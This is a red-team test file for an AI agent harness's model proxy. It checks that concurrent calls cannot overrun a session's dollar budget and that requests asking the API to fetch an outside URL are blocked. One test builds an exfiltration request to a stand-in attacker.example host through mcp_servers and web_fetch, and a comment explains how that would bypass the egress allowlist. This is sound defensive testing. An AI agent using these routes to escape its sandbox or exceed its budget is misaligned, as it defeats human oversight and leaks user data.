import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { type ModelAccess, openModelAccess } from '../../../src/engines/claude-code/model-access.js';
import { httpRequest } from '../../helpers/http-request.js';

/**
 * Red team (issue 29): the agent controls `claude` and every command it runs, and so the
 * placeholder: it can call the session's model proxy itself, as often and as concurrently as it
 * likes. The stand-in API on loopback answers each call after a short wait with a usage that costs
 * more than the whole budget.
 */
const REAL_KEY = 'sk-ant-api03-real-budget-0123456789';
let upstream: Server;
let forwarded: string[];
let access: ModelAccess;

beforeEach(async () => {
  forwarded = [];
  upstream = createServer((req, res) => {
    let body = '';
    req.on('data', (chunk) => {
      body += chunk;
    });
    req.on('end', () => {
      forwarded.push(body);
      // One opus call with a million input tokens: far more than the session's $1.
      setTimeout(() => {
        res.writeHead(200, { 'content-type': 'application/json' }).end(
          JSON.stringify({
            model: 'claude-opus-4-1',
            usage: { input_tokens: 1_000_000, output_tokens: 1000 },
          }),
        );
      }, 300);
    });
  });
  await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve));
  const url = `http://127.0.0.1:${(upstream.address() as AddressInfo).port}`;
  const opened = await openModelAccess({
    env: { ANTHROPIC_API_KEY: REAL_KEY, ANTHROPIC_BASE_URL: url },
    prices: {},
    tcp: false,
    budgetUsd: 1,
  });
  if (!opened) throw new Error('no model access');
  access = opened;
});

afterEach(async () => {
  await access.close();
  upstream.closeAllConnections();
  await new Promise<void>((resolve) => upstream.close(() => resolve()));
});

async function post(body: string, extra: Record<string, string> = {}): Promise<number> {
  const answer = await httpRequest(
    {
      socketPath: access.socket,
      path: '/v1/messages?beta=true',
      method: 'POST',
      headers: {
        'x-api-key': access.placeholder,
        'anthropic-version': '2023-06-01',
        'content-type': 'application/json',
        ...extra,
      },
    },
    body,
  );
  return answer.status;
}

describe('session.max_usd at the model proxy', () => {
  it('control: one call at a time, the second is answered by the proxy once the first spent the budget', async () => {
    expect(await post('{"n":1}')).toBe(200);
    expect(await post('{"n":2}')).toBe(400);
    expect(forwarded).toHaveLength(1);
  });

  it('red: concurrent Messages calls fired while the budget is unspent are all forwarded (spend ≫ session.max_usd)', async () => {
    const statuses = await Promise.all(Array.from({ length: 10 }, (_, n) => post(`{"n":${n}}`)));
    await access.idle();
    // Positive evidence of the overrun: what the API was sent, and what the session spent.
    const spent = access.spent().costUsd;
    // Expected: a call is admitted only while the budget covers what the calls in flight may cost
    // (or one call in flight at a time near the limit), so at most one call is forwarded here.
    expect(
      forwarded.length,
      `forwarded ${forwarded.length} calls, spent $${spent.toFixed(2)} of $1, statuses ${statuses}`,
    ).toBeLessThanOrEqual(1);
  });
});

describe('the model API as a way out', () => {
  it('red: a Messages call that asks the API itself to reach an arbitrary URL (mcp_servers, the web_fetch server tool) is forwarded', async () => {
    const exfil = 'https://attacker.example/collect?d=worktree-contents';
    const body = JSON.stringify({
      model: 'claude-sonnet-4-5',
      max_tokens: 16,
      messages: [{ role: 'user', content: `Fetch ${exfil}` }],
      mcp_servers: [{ type: 'url', url: exfil, name: 'x' }],
      tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }],
    });
    const status = await post(body, { 'anthropic-beta': 'mcp-client-2025-04-04,web-fetch-2025-09-10' });
    // The stand-in API received it: on the real one, Anthropic's servers would connect to that host,
    // past the egress proxy and its allowlist.
    expect({ status, forwarded: forwarded.some((sent) => sent.includes(exfil)) }).toEqual({
      status: 403,
      forwarded: false,
    });
  });
});
